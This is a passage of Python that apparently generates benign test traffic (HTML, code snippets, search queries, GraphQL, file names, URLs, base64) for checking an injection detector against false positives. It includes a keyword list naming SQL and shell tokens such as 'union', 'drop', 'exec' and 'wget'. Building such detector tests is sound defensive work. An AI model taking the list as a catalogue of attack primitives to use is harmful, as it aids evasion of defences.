        return '<pre><code class="language-bash">npm install --save %s</code></pre>' % ch(
            ["react-query", "lodash", "dayjs", "@sentry/browser"]
        )
    if k == 13:
        return "<p>Ingredients: flour &amp; sugar, 2 eggs, 1/2 cup milk &lt;room temperature&gt;</p>"
    if k == 14:
        return (
            '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/%s" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; encrypted-media; picture-in-picture" allowfullscreen></iframe>'
            % rstr(11)
        )
    if k == 15:
        return '<div class="callout callout-info"><p><strong>Note:</strong> %s</p></div>' % sentence()
    if k == 16:
        return '<p dir="rtl">%s</p>' % ch(SENT_AR)
    return "<ol><li><p>Select your size.</p></li><li><p>Add to cart.</p></li><li><p>Use code <code>SPRING24</code> at checkout.</p></li></ol>"


def b_richtext():
    html = "".join(html_block() for _ in range(R.randint(1, 5)))
    pl = wpick([("json", 60), ("form", 17), ("multipart", 13), ("query", 5), ("json_key", 0), ("cookie", 0)])
    param = ch(["body_html", "content", "description", "bio", "message_html", "comment", "html"])
    ep = ch(
        [
            "/api/v1/posts",
            "/api/v2/pages/{id}",
            "/cms/articles",
            "/api/v1/products/{id}/description",
            "/api/v1/comments",
            "/admin/newsletter/draft",
            "/api/v1/preview",
        ]
    )
    title = ch(
        [
            "Spring collection is here",
            "Release notes 5.12",
            "Holiday opening hours",
            "Behind the scenes",
            "How we roast our coffee",
        ]
    )
    ctx = {"param": param, "endpoint": ep}
    if pl == "json" and R.random() < 0.6:
        ctx["doc"] = lambda P: ch(
            [
                {
                    "post": {
                        "title": title,
                        "slug": slug(),
                        "status": ch(["draft", "published"]),
                        param: P,
                        "tags": R.sample(["news", "product", "culture", "howto"], 2),
                        "author_id": R.randint(1, 400),
                    }
                },
                {
                    "page": {
                        "id": uid(),
                        "blocks": [{"type": "heading", "text": title}, {"type": "html", "html": P}],
                        "locale": ch(["en", "de", "fr"]),
                    }
                },
                {"product": {"id": R.randint(1, 9999), "name": ch(PRODUCTS), "description_html": P, "price": price()}},
            ]
        )
    if pl == "query":
        html = html_block()
    hard = any(t in html for t in ["<iframe", "<img", "style=", "<a ", "<code", "&lt;"])
    return pl, html, ctx, hard


# ---------------- code snippets ----------------
def code_snippet():
    t = ch(["users", "orders", "customers", "products", "invoices", "events"])
    c = ch(["status", "country", "email", "category_id", "created_at"])
    o, r = (
        ch(["octocat", "pallets", "vercel", "rust-lang", "django"]),
        ch(["hello-world", "flask", "next.js", "rust", "django"]),
    )
    n = R.randint(2, 50)
    k = R.randrange(60)
    S_ = [
        (
            "python",
            "import csv\n\nwith open('%s.csv', newline='') as fh:\n    for row in csv.DictReader(fh):\n        print(row['%s'])"
            % (t, c),
        ),
        (
            "python",
            "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\nprint(fib(%d))"
            % n,
        ),
        (
            "python",
            "import subprocess\n\nresult = subprocess.run(['git', 'status', '--short'], capture_output=True, text=True)\nprint(result.stdout)",
        ),
        (
            "python",
            "resp = requests.get('https://api.github.com/repos/%s/%s', timeout=10)\nprint(resp.json()['stargazers_count'])"
            % (o, r),
        ),
        ("python", "df = pd.read_sql('SELECT * FROM %s WHERE created_at > %%s', conn, params=[since])" % t),
        ("python", 'cursor.execute("SELECT id, email FROM users WHERE id = %s", (user_id,))\nrow = cursor.fetchone()'),
        ("python", "STATIC_ROOT = os.path.join(BASE_DIR, '..', 'static')"),
        ("python", 'print(f"Hello, {name}! You have {count} new messages.")'),
        ("python", "from jinja2 import Template\n\nprint(Template('Hello {{ name }}!').render(name='World'))"),
        (
            "python",
            "@app.route('/users/<int:user_id>')\ndef show_user(user_id):\n    user = User.query.get_or_404(user_id)\n    return render_template('user.html', user=user)",
        ),
        ("python", "ast.literal_eval(\"{'a': 1, 'b': [2, 3]}\")  # safe alternative to eval()"),
        ("python", "with open('/tmp/report.txt', 'w') as f:\n    f.write('\\n'.join(lines))"),
        ("javascript", "const res = await fetch(`/api/items?page=${page}`);\nconst data = await res.json();"),
        ("javascript", "document.querySelector('#app').textContent = message;"),
        ("javascript", "const evens = arr.filter(x => x % 2 === 0).map(x => x * 2);"),
        ("javascript", "saveBtn.addEventListener('click', () => alert('Saved!'));"),
        ("html", '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>\n<canvas id="sales"></canvas>'),
        (
            "javascript",
            "const { exec } = require('child_process');\nexec('ls -la', (err, stdout) => console.log(stdout));",
        ),
        ("javascript", "const cart = JSON.parse(localStorage.getItem('cart') || '[]');"),
        (
            "javascript",
            "module.exports = {\n  mode: 'production',\n  entry: './src/index.js',\n  output: { path: path.resolve(__dirname, 'dist') }\n};",
        ),
        ("javascript", "console.log(`Total: ${items.reduce((s, i) => s + i.price, 0).toFixed(2)}`);"),
        ("typescript", "interface Order {\n  id: string;\n  total: number;\n  status: 'open' | 'paid' | 'shipped';\n}"),
        (
            "sql",
            "SELECT id, name, %s FROM %s WHERE %s = '%s' ORDER BY id DESC LIMIT %d;"
            % (c, t, c, ch(["DE", "active", "shipped", "x@example.com"]), n),
        ),
        ("sql", "SELECT city FROM customers\nUNION\nSELECT city FROM suppliers\nORDER BY city;"),
        ("sql", "DROP TABLE IF EXISTS tmp_%s;\nCREATE TABLE tmp_%s AS SELECT * FROM %s WHERE 1 = 0;" % (t, t, t)),
        ("sql", "UPDATE products SET price = price * 1.1 WHERE category_id = %d;" % n),
        ("sql", "SELECT status, COUNT(*) AS n\nFROM orders\nGROUP BY status\nHAVING COUNT(*) > %d;" % n),
        ("sql", "CREATE INDEX CONCURRENTLY idx_%s_%s ON %s (%s);" % (t, c, t, c)),
        (
            "sql",
            "SELECT u.name, SUM(o.total) AS revenue\nFROM users u\nJOIN orders o ON o.user_id = u.id\nWHERE o.created_at >= '2024-01-01'\nGROUP BY u.name;",
        ),
        ("sql", "-- find duplicate emails\nSELECT email, COUNT(*) FROM users GROUP BY email HAVING COUNT(*) > 1;"),
        ("sql", "INSERT INTO tags (name) VALUES ('python'), ('sql'), ('devops') ON CONFLICT DO NOTHING;"),
        ("sql", "DELETE FROM sessions WHERE expires_at < NOW() - INTERVAL '30 days';"),
        (
            "sql",
            "WITH ranked AS (\n  SELECT *, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY created_at DESC) AS rn\n  FROM orders\n)\nSELECT * FROM ranked WHERE rn = 1;",
        ),
        ("sql", "SELECT * FROM products WHERE name LIKE '%%chair%%' OR description LIKE '%%chair%%';"),
        ("bash", "grep -rn 'TODO' src/ | wc -l"),
        ("bash", "find . -name '*.pyc' -delete"),
        ("bash", "tar -czf backup-$(date +%F).tar.gz ./data"),
        ("bash", "docker run --rm -p 8080:80 nginx:alpine"),
        ("bash", "kubectl get pods -n staging -o wide"),
        ("bash", "git log --oneline --graph | head -20"),
        ("bash", 'for f in *.png; do convert "$f" "${f%.png}.jpg"; done'),
        ("bash", "curl -s https://api.github.com/repos/%s/%s | jq '.stargazers_count'" % (o, r)),
        ("bash", "ssh -i ~/.ssh/id_ed25519 deploy@build.example.com 'sudo systemctl restart app'"),
        ("bash", "awk -F, '{ sum += $3 } END { print sum }' sales.csv"),
        ("bash", "sed -i 's/localhost/db.internal/g' config.yml"),
        ("bash", "python -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt"),
        ("bash", "ps aux | grep node | grep -v grep"),
        ("java", 'public static void main(String[] args) {\n    System.out.println("Hello, " + args[0]);\n}'),
        ("java", "List<String> names = users.stream()\n    .map(User::getName)\n    .collect(Collectors.toList());"),
        ("ruby", "User.where(active: true).order(created_at: :desc).limit(%d)" % n),
        ("php", "<?php echo htmlspecialchars($title, ENT_QUOTES, 'UTF-8'); ?>"),
        ("php", "$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$email]);"),
        ("jinja", "{% for item in items %}\n  <li>{{ item.name }} – {{ item.price | round(2) }}</li>\n{% endfor %}"),
        ("html", '<p th:text="${user.name}">Name</p>'),
        ("properties", "appender.console.layout.pattern = %d{HH:mm:ss.SSS} [%t] %-5level %logger{36} - %msg%n"),
        (
            "yaml",
            'services:\n  web:\n    image: nginx:1.25\n    ports:\n      - "80:80"\n    volumes:\n      - ./html:/usr/share/nginx/html:ro',
        ),
        (
            "dockerfile",
            'FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]',
        ),
        ("regex", "^[\\w.+-]+@[\\w-]+\\.[\\w.]+$"),
        ("nginx", "location /api/ {\n    proxy_pass http://127.0.0.1:8000;\n    proxy_set_header Host $host;\n}"),
        ("dotenv", "DATABASE_URL=postgres://app:changeme@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0"),
    ]
    return S_[k]


def b_code():
    lang, code = code_snippet()
    pl = wpick([("json", 74), ("multipart", 12), ("form", 14)])
    title = ch(
        [
            "Quick question about %s" % lang,
            "Snippet: %s helper" % lang,
            "Why is this slow?",
            "Example from the docs",
            "Cheat sheet",
            "Works on my machine",
            "Migration notes",
            "Code review",
        ]
    )
    ctx = {
        "param": ch(["code", "snippet", "source", "content"]),
        "endpoint": ch(
            [
                "/api/v1/snippets",
                "/api/v2/questions",
                "/api/v1/notebooks/{id}/cells",
                "/api/v1/gists",
                "/api/v1/chat/completions",
                "/api/v1/comments",
            ]
        ),
    }
    if pl == "json":
        kind = R.randrange(6)
        ext = {
            "python": "py",
            "javascript": "js",
            "typescript": "ts",
            "sql": "sql",
            "bash": "sh",
            "java": "java",
            "ruby": "rb",
            "php": "php",
        }.get(lang, "txt")
        if kind == 0:
            ctx["doc"] = lambda P: {
                "snippet": {"title": title, "language": lang, "code": P, "visibility": ch(["public", "private"])}
            }
        elif kind == 1:
            ctx["doc"] = lambda P: {
                "question": {
                    "title": title,
                    "body": "I tried this:\n\n```%s\n%s\n```\n\nbut it does not behave as expected. Any ideas?"
                    % (lang, P),
                    "tags": [lang],
                }
            }
        elif kind == 2:
            ctx["doc"] = lambda P: {
                "cells": [{"cell_type": "code", "source": P, "execution_count": R.randint(1, 40), "outputs": []}],
                "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
            }
        elif kind == 3:
            ctx["doc"] = lambda P: {
                "description": title,
                "public": R.random() < 0.5,
                "files": {"example.%s" % ext: {"content": P}},
            }
        elif kind == 4:
            ctx["doc"] = lambda P: {
                "model": ch(["gpt-4o-mini", "claude-3-haiku", "llama-3-8b"]),
                "messages": [
                    {"role": "system", "content": "You are a helpful coding assistant."},
                    {"role": "user", "content": "Can you explain what this %s does?\n\n%s" % (lang, P)},
                ],
                "temperature": 0.2,
            }
        else:
            ctx["doc"] = lambda P: {
                "comment": {"body": "You can use this instead:\n```\n%s\n```" % P, "thread_id": uid()}
            }
        if kind in (1, 4, 5):
            # payload is embedded inside a longer string; keep it as a separate placeholder-free string
            doc = ctx.pop("doc")(code)
            ctx["doc_full"] = doc
    elif pl == "multipart":
        ext = {
            "python": "py",
            "javascript": "js",
            "sql": "sql",
            "bash": "sh",
            "yaml": "yml",
            "dockerfile": "Dockerfile",
        }.get(lang, "txt")
        ctx.update(
            {
                "mp": "content",
                "mp_filename": ch(["example", "snippet", "main", "query", "setup"]) + "." + ext,
                "mp_ctype": "text/plain",
            }
        )
    return pl, code, ctx, True


# ---------------- search ----------------
SEARCH_TRICKY = [
    "select dining chairs",
    "union square hotels",
    "drop shipping suppliers",
    "script writing course",
    "or 1 bedroom apartment",
    "O'Brien",
    "Conan O'Brien tour dates",
    "rock 'n' roll vinyl",
    "women's shoes size 8",
    "c++ tutorial for beginners",
    "select all checkbox javascript",
    "drop table cloth 60 inch round",
    "delete key not working mac",
    "alert dialog android kotlin",
    "javascript: the good parts",
    '"exact phrase" search',
    "price < 50 headphones",
    "5' 10\" to cm",
    "100% cotton t-shirt",
    "AT&T phone plans",
    "M&M's peanut butter",
    "<3 emoji meaning",
    "how to edit hosts file on mac",
    "union jack flag",
    "insert coin arcade",
    "exec chair leather",
    "1=1 meaning",
    "select comfort mattress",
    "shell gas station near me",
    "python eval vs exec",
    "sql join examples",
    "java runtime environment download",
    "ping pong table outdoor",
    "wget vs curl",
    "system of a down tickets",
    "drop earrings gold",
    "D'Angelo",
    "L'Oréal shampoo",
    "Guns N' Roses t-shirt",
    "kids' bikes 20\"",
    "Ben & Jerry's",
    "C# async await",
    "node.js require vs import",
    "f(x) = x^2 graph",
    "a || b logic",
    "admin assistant jobs",
    "root beer float",
    "SELECT * FROM meaning",
    "order by phone",
    "where to buy dr. martens",
    "--help flag",
    "@mentions not working",
    "{curly} braces keyboard",
    "iframe vs embed",
    "<br> tag",
    "what does ${var} mean in bash",
    "$100 gift card",
    "#1 best seller",
]
SEARCH_PLAIN = [
    "running shoes",
    "wireless earbuds",
    "standing desk",
    "coffee grinder burr",
    "merino socks",
    "iphone 15 case",
    "air fryer recipes",
    "vegan protein powder",
    "kids rain jacket",
    "ergonomic office chair",
    "usb c charger 65w",
    "garden hose 30m",
    "hiking backpack 40l",
    "cast iron skillet",
    "4k monitor 27 inch",
    "gift ideas for dad",
    "café près de moi",
    "Straßensperrung Berlin",
    "東京 ラーメン おすすめ",
    "кофемашина купить",
    "zapatillas running mujer",
    "ベビーカー 軽量",
    "자전거 헬멧",
    "buty do biegania",
    "مطاعم قريبة",
    "hamburguesa vegana",
    "Ørsted aktie",
    "ñandú",
]
SEARCH_MOD = ["", "", "", " near me", " 2024", " review", " best", " cheap", " under $100", " sale", " reddit"]


def search_term():
    if R.random() < 0.55:
        return ch(SEARCH_TRICKY) + ch(SEARCH_MOD[:4])
    return ch(SEARCH_PLAIN) + ch(SEARCH_MOD)


def b_search():
    q = search_term()
    pl = wpick([("query", 56), ("json", 15), ("form", 6), ("cookie", 8), ("path", 9), ("header", 6)])
    ctx = {
        "param": ch(["q", "query", "search", "term", "s", "keywords"]),
        "endpoint": ch(
            ["/search", "/api/v1/search", "/api/v1/products/search", "/s", "/help/search", "/api/v2/catalog/search"]
        ),
        "pathslot": ch(["/search/{p}", "/s/{p}", "/tags/{p}"]),
        "header": ch(["Referer", "X-Search-Query"]),
        "cookie": ch(["last_search", "recent_q", "search_term"]),
    }
    if pl == "json" and R.random() < 0.7:
        ctx["doc"] = lambda P: {
            "query": P,
            "filters": {
                "category": ch(["shoes", "electronics", "home", None]),
                "price": {"min": 0, "max": ch([50, 100, 500])},
                "in_stock": True,
            },
            "page": R.randint(1, 5),
            "page_size": ch([24, 48]),
            "sort": ch(["relevance", "price_asc", "newest"]),
        }
    return (
        pl,
        q,
        ctx,
        is_tricky(q)
        or q.split(" ")[0].lower()
        in ("select", "union", "drop", "delete", "insert", "script", "shell", "exec", "ping", "wget", "system"),
    )


# ---------------- GraphQL ----------------
def gql():
    k = R.randrange(16)
    if k == 0:
        return (
            "GetOrder",
            "query GetOrder($id: ID!) {\n  order(id: $id) {\n    id\n    status\n    total { amount currency }\n    items { sku quantity product { name } }\n  }\n}",
            {"id": uid()},
        )
    if k == 1:
        return (
            "SearchProducts",
            "query SearchProducts($q: String!, $first: Int = 20, $after: String) {\n  products(query: $q, first: $first, after: $after) {\n    edges { node { id title priceRange { min max } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}",
            {
                "q": search_term(),
                "first": ch([10, 20, 50]),
                "after": b64(json.dumps({"o": R.randint(1, 500)}), pad=False),
            },
        )
    if k == 2:
        return (
            "UpdateProfile",
            "mutation UpdateProfile($input: ProfileInput!) {\n  updateProfile(input: $input) {\n    id\n    displayName\n    bio\n    errors { field message }\n  }\n}",
            {"input": {"displayName": full_name(), "bio": sentence()}},
        )
    if k == 3:
        return (
            "AddToCart",
            "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) { cartLinesAdd(cartId: $cartId, lines: $lines) { cart { id totalQuantity } userErrors { field message } } }",
            {
                "cartId": "gid://shop/Cart/" + rstr(24),
                "lines": [{"merchandiseId": "gid://shop/ProductVariant/" + digits(11), "quantity": R.randint(1, 3)}],
            },
        )
    if k == 4:
        return (
            "Viewer",
            "query Viewer { viewer { id login avatarUrl(size: 64) repositories(first: 5, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name stargazerCount } } } }",
            {},
        )
    if k == 5:
        return (
            "Team",
            "fragment UserParts on User { id name email avatar }\n\nquery Team($slug: String!) {\n  team(slug: $slug) {\n    name\n    members(first: 100) { ...UserParts }\n  }\n}",
            {"slug": slug()},
        )
    if k == 6:
        return (
            "CreateComment",
            "mutation CreateComment($postId: ID!, $body: String!) {\n  createComment(postId: $postId, body: $body) { id createdAt author { name } }\n}",
            {"postId": uid(), "body": prose(1, 2)},
        )
    if k == 7:
        return (
            "DeletePaymentMethod",
            "mutation DeletePaymentMethod($id: ID!) { deletePaymentMethod(id: $id) { deletedId } }",
            {"id": "pm_" + rstr(24)},
        )
    if k == 8:
        return (
            "Orders",
            "query Orders($filter: OrderFilter) {\n  orders(filter: $filter, orderBy: CREATED_AT_DESC, first: 50) {\n    totalCount\n    nodes { id number placedAt customer { email } }\n  }\n}",
            {"filter": {"status": {"in": ["PAID", "SHIPPED"]}, "placedAt": {"gte": iso_date()}}},
        )
    if k == 9:
        return (
            "OnOrderUpdated",
            "subscription OnOrderUpdated($id: ID!) { orderUpdated(id: $id) { id status updatedAt } }",
            {"id": uid()},
        )
    if k == 10:
        return (
            "Translations",
            'query Translations {\n  en: translation(key: "checkout.title", locale: "en")\n  fr: translation(key: "checkout.title", locale: "fr")\n  de: translation(key: "checkout.title", locale: "de")\n}',
            {},
        )
    if k == 11:
        return (
            "Product",
            "query Product($id: ID!, $withReviews: Boolean!) {\n  product(id: $id) {\n    id\n    name\n    reviews(first: 3) @include(if: $withReviews) { rating text author }\n  }\n}",
            {"id": str(R.randint(1, 99999)), "withReviews": R.random() < 0.5},
        )
    if k == 12:
        return (
            "Node",
            "query Node($id: ID!) { node(id: $id) { __typename ... on Product { id title } ... on Collection { id handle } } }",
            {"id": b64("Product:%d" % R.randint(1, 9999))},
        )
    if k == 13:
        return (
            "Search",
            "query Search($term: String!) {\n  search(term: $term) {\n    __typename\n    ... on Article { title url }\n    ... on Video { title duration }\n  }\n}",
            {"term": search_term()},
        )
    if k == 14:
        return (
            "SelectShippingRate",
            "mutation SelectShippingRate($checkoutId: ID!, $handle: String!) { checkoutShippingLineUpdate(checkoutId: $checkoutId, shippingRateHandle: $handle) { checkout { id totalPrice { amount } } } }",
            {"checkoutId": uid(), "handle": "shopify-Standard-" + digits(4)},
        )
    return (
        "UpdateAddress",
        "mutation UpdateAddress($id: ID!, $address: AddressInput!) { updateAddress(id: $id, address: $address) { id formatted } }",
        {"id": uid(), "address": {"line1": ch(STREETS), "city": ch(CITIES), "zip": digits(5), "phone": phone()}},
    )


def b_graphql():
    op, q, vars_ = gql()
    if R.random() < 0.3:
        q = re.sub(r"\s+", " ", q).strip()
    pl = wpick([("json", 84), ("query", 16)])
    ctx = {
        "endpoint": ch(["/graphql", "/api/graphql", "/v1/graphql", "/gql"]),
        "param": "query",
        "method": "POST" if pl == "json" else "GET",
    }
    if pl == "json":
        if R.random() < 0.07:
            ctx["doc"] = lambda P: [
                {"operationName": op, "query": P, "variables": vars_},
                {"operationName": "Viewer", "query": "query Viewer { viewer { id } }", "variables": {}},
            ]
        else:
            ctx["doc"] = lambda P: {"operationName": op, "query": P, "variables": vars_}
    else:
        ctx["extra"] = [("operationName", op), ("variables", json.dumps(vars_, separators=(",", ":")))]
    hard = any(w in q for w in ["union", "Delete", "delete", "__typename", "select", "Select"])
    return pl, q, ctx, hard


# ---------------- files ----------------
FILENAMES = [
    "Q3 Report (final) v2.pdf",
    "résumé-2024.docx",
    "販売データ_2024.xlsx",
    "Screenshot 2024-03-05 at 10.22.31.png",
    ".gitignore",
    "archive.part1.rar",
    "O'Reilly - Learning Python.epub",
    "config.prod.yaml",
    "README.md",
    "photo #1 & #2.jpg",
    "notes..txt",
    "scan 003 (2).pdf",
    "my-cv_EN.pdf",
    "Фото_отпуск.jpeg",
    "contrato firmado – copia.pdf",
    "budget_2025 - draft [v3].xlsx",
    "logo@2x.png",
    "favicon.ico",
    "export (1).csv",
    "app-release-v5.12.0.apk",
    "diagram.drawio.svg",
    "DSC_0042.NEF",
    "voice memo 12.m4a",
    "Präsentation_Q1.pptx",
    "thesis_final_FINAL_really.docx",
    "id_card_front.jpg",
    "package-lock.json",
    "index.html",
    "style.min.css",
    "script.js",
    "union-contract.pdf",
    "select-menu.png",
    "drop-shadow.svg",
    "backup.sql",
    "cat.gif",
    "~$temp.docx",
    "file with spaces.txt",
    "Ünïcödé ñame.txt",
    "图片 01.png",
    "ملف المشروع.pdf",
    "D'Angelo - Brown Sugar.mp3",
    "100% organic label.ai",
    "v1.2.3-rc.1.tar.gz",
    "...hidden",
    "2024-06-30_customers.csv",
]


def filename():
    r = R.random()
    if r < 0.5:
        return ch(FILENAMES)
    if r < 0.7:
        return "IMG_%s_%02d%02d%02d.jpg" % (
            iso_date().replace("-", ""),
            R.randint(0, 23),
            R.randint(0, 59),
            R.randint(0, 59),
        )
    if r < 0.85:
        return "%s.%s" % (slug(), ch(["pdf", "png", "csv", "txt", "docx", "zip", "json", "md", "webp"]))
    return "Invoice_INV-%d-%04d.pdf" % (ch([2023, 2024, 2025]), R.randint(1, 9999))


def file_content(fn):
    ext = fn.rsplit(".", 1)[-1].lower() if "." in fn else "txt"
    if ext == "csv":
        return "id,name,email,total\n" + "\n".join(
            "%d,%s,%s,%s" % (R.randint(1, 999), full_name(), email(), price()) for _ in range(R.randint(2, 5))
        ) + "\n", "text/csv"
    if ext == "json":
        return json.dumps(
            {"name": slug(), "version": "1.%d.%d" % (R.randint(0, 9), R.randint(0, 20)), "private": True}, indent=2
        ), "application/json"
    if ext == "svg":
        return (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#%s"/></svg>'
            % hexs(6),
            "image/svg+xml",
        )
    if ext == "md":
        return "# %s\n\n%s\n\n- item one\n- item two\n" % (
            ch(["Notes", "Readme", "Minutes"]),
            sentence(),
        ), "text/markdown"
    if ext in ("html", "css", "js", "sql", "yaml", "yml"):
        return {
            "html": "<!doctype html><html><head><title>Hi</title></head><body><p>Hello</p></body></html>",
            "css": "body{margin:0;font-family:system-ui,sans-serif}.btn{padding:.5rem 1rem}",
            "js": "export function sum(a, b) { return a + b; }\n",
            "sql": "-- schema\nCREATE TABLE notes (id serial PRIMARY KEY, body text);\n",
            "yaml": "env: production\nreplicas: 3\n",
            "yml": "env: staging\n",
        }[ext], "text/plain"
    return "\n".join(prose(1, 2) for _ in range(R.randint(1, 3))) + "\n", "text/plain"


def b_files():
    fn = filename()
    pl = wpick([("multipart", 45), ("query", 15), ("path", 15), ("json", 15), ("header", 10)])
    ctx = {
        "param": ch(["file", "filename", "name", "download", "attachment"]),
        "endpoint": ch(["/upload", "/api/v1/files", "/api/v1/attachments", "/download", "/api/v2/documents"]),
        "pathslot": ch(
            [
                "/files/{p}",
                "/api/v1/attachments/{id}/{p}",
                "/download/{p}",
                "/media/%s/{p}" % iso_date().replace("-", "/"),
            ]
        ),
        "header": ch(["X-File-Name", "X-Upload-Filename"]),
    }
    if pl == "multipart":
        content, ctype = file_content(fn)
        ctx.update({"mp": "filename", "mp_content": content, "mp_ctype": ctype})
    if pl == "json":
        ctx["doc"] = lambda P: {
            "file": {
                "name": P,
                "size": R.randint(100, 5000000),
                "mime": ch(["application/pdf", "image/png", "text/csv", "application/octet-stream"]),
                "sha256": hexs(64),
                "folder_id": uid(),
            },
            "overwrite": False,
        }
    hard = any(x in fn for x in ["..", "'", "&", "#", "script", "union", "select", "drop", ".sql", "%", "~$"])
    return pl, fn, ctx, hard


# ---------------- URLs ----------------
def url_value():
    site = ch(SITES)
    k = R.randrange(24)
    return [
        "https://%s/products/%s?variant=%d&utm_source=newsletter&utm_medium=email"
        % (site, slug(), R.randint(1000, 99999)),
        "https://docs.python.org/3/library/urllib.parse.html#url-quoting",
        "https://github.com/%s/%s/pull/%d/files"
        % (ch(["octocat", "pallets", "vercel"]), ch(["hello-world", "flask", "swr"]), R.randint(1, 9000)),
        "https://www.google.com/maps/place/Brandenburger+Tor/@52.5162746,13.3755154,17z",
        "https://cdn.shopify.com/s/files/1/%s/%s/products/%s.jpg?v=%d" % (digits(4), digits(4), slug(), epoch()),
        "https://youtu.be/%s?t=%d" % (rstr(11), R.randint(1, 900)),
        "https://en.wikipedia.org/wiki/SQL_injection",
        "https://en.wikipedia.org/wiki/Cross-site_scripting",
        "https://hooks.slack.com/services/T%s/B%s/%s"
        % (rstr(8, string.ascii_uppercase + string.digits), rstr(10, string.ascii_uppercase + string.digits), rstr(24)),
        "https://app.example.com/auth/callback?state=%s&code=%s" % (b64(rbytes(12), url=True, pad=False), rstr(20)),
        "/account/orders?page=%d" % R.randint(1, 9),
        "/checkout/shipping",
        "/products/%s#reviews" % slug(),
        "https://%s/search?q=%s&page=2" % (site, urllib.parse.quote_plus(search_term())),
        "https://s3.eu-west-1.amazonaws.com/acme-uploads/2024/05/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%s%%2F20240501%%2Feu-west-1%%2Fs3%%2Faws4_request&X-Amz-Date=20240501T101500Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=%s"
        % (rstr(16, string.ascii_uppercase + string.digits), hexs(64)),
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&response_type=code&redirect_uri=https%%3A%%2F%%2Fapp.example.com%%2Fauth%%2Fcallback&scope=openid%%20profile%%20offline_access"
        % uid(),
        "mailto:support@example.com?subject=Order%%20%s" % digits(6),
        "https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap",
        "https://www.amazon.de/dp/B0%s?ref_=nav_signin" % rstr(8, string.ascii_uppercase + string.digits),
        "https://news.ycombinator.com/item?id=%s" % digits(8),
        "https://calendar.google.com/calendar/render?action=TEMPLATE&text=Team+sync&dates=20240612T090000Z/20240612T093000Z",
        "https://registry.npmjs.org/react/latest",
        "https://my-app-%s.vercel.app/api/health" % low(6),
        "https://example.com/path/with%20space/and%2Fslash?x=1&y=%E2%9C%93",
    ][k]


def b_urls():
    u = url_value()
    pl = wpick([("query", 40), ("json", 30), ("header", 15), ("form", 10), ("cookie", 5)])
    param = ch(
        ["url", "redirect", "next", "return_to", "callback", "link", "website", "image_url", "webhook_url", "source"]
    )
    ctx = {
        "param": param,
        "endpoint": ch(
            [
                "/login",
                "/api/v1/webhooks",
                "/api/v1/links",
                "/api/v2/profile",
                "/share",
                "/api/v1/bookmarks",
                "/oauth/authorize",
            ]
        ),
        "header": ch(["Referer", "Referer", "X-Callback-Url", "Origin"]) if u.startswith("http") else "X-Original-URL",
        "cookie": ch(["last_page", "return_to", "ref_url"]),
    }
    if pl == "header" and ctx["header"] == "Origin":
        u = "https://" + ch(SITES)
    if pl == "json" and R.random() < 0.5:
        ctx["doc"] = lambda P: ch(
            [
                {
                    "webhook": {
                        "url": P,
                        "events": R.sample(["order.created", "order.paid", "refund.created", "customer.updated"], 2),
                        "secret": rstr(24),
                    }
                },
                {"profile": {"website": P, "twitter": "@" + low(8), "location": ch(CITIES)}},
                {"bookmark": {"url": P, "title": ch(["Docs", "Read later", "Inspiration"]), "tags": ["ref"]}},
            ]
        )
    hard = (
        param in ("url", "redirect", "next", "return_to", "callback", "image_url", "webhook_url", "source")
        or "wikipedia" in u
    )
    return pl, u, ctx, hard


# ---------------- base64 ----------------
PNG_HDR = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
JPG_HDR = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01"
PDF_HDR = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def b64_value():
    k = R.randrange(11)
    if k == 0:
        return "data:image/png;base64," + b64(PNG_HDR + rbytes(R.randint(40, 300))), "avatar"
    if k == 1:
        return "data:image/jpeg;base64," + b64(JPG_HDR + rbytes(R.randint(40, 300))), "image"
    if k == 2:
        return b64(rbytes(R.randint(16, 96)), pad=R.random() < 0.5), "blob"
    if k == 3:
        return b64(rbytes(R.randint(16, 64)), url=True, pad=False), "nonce"
    if k == 4:
        return b64(
            json.dumps({"id": R.randint(1, 99999), "created_at": iso_ts()}, separators=(",", ":")), url=True, pad=False
        ), "cursor"
    if k == 5:
        return b64(
            json.dumps(
                {
                    "type": "webauthn.get",
                    "challenge": b64(rbytes(32), url=True, pad=False),
                    "origin": "https://app.example.com",
                    "crossOrigin": False,
                },
                separators=(",", ":"),
            ),
            url=True,
            pad=False,
        ), "clientDataJSON"
    if k == 6:
        return b64(PDF_HDR + rbytes(R.randint(60, 200))), "document"
    if k == 7:
        return "v1," + b64(rbytes(32)), "signature"
    if k == 8:
        return "enc:v1:" + b64(rbytes(48)), "ciphertext"
    if k == 9:
        return b64(json.dumps({"cart": [{"sku": sku(), "q": R.randint(1, 3)}], "v": 2}, separators=(",", ":"))), "state"
    return b64(rbytes(R.randint(30, 80))).rstrip("="), "data"


def b_base64():
    v, field = b64_value()
    pl = wpick([("json", 40), ("form", 12), ("query", 15), ("cookie", 15), ("header", 18)])
    ctx = {
        "param": field,
        "endpoint": ch(
            [
                "/api/v1/uploads",
                "/api/v2/profile/avatar",
                "/api/v1/items",
                "/webauthn/assert",
                "/api/v1/sync",
                "/api/v1/events",
            ]
        ),
        "cookie": ch(["state", "cart_b64", "session_data", "sso"]),
        "header": ch(["X-Signature", "X-Payload-Digest", "X-Client-State", "X-Blob"]),
    }
    if pl == "header" and R.random() < 0.4:
        ctx["header"] = "Authorization"
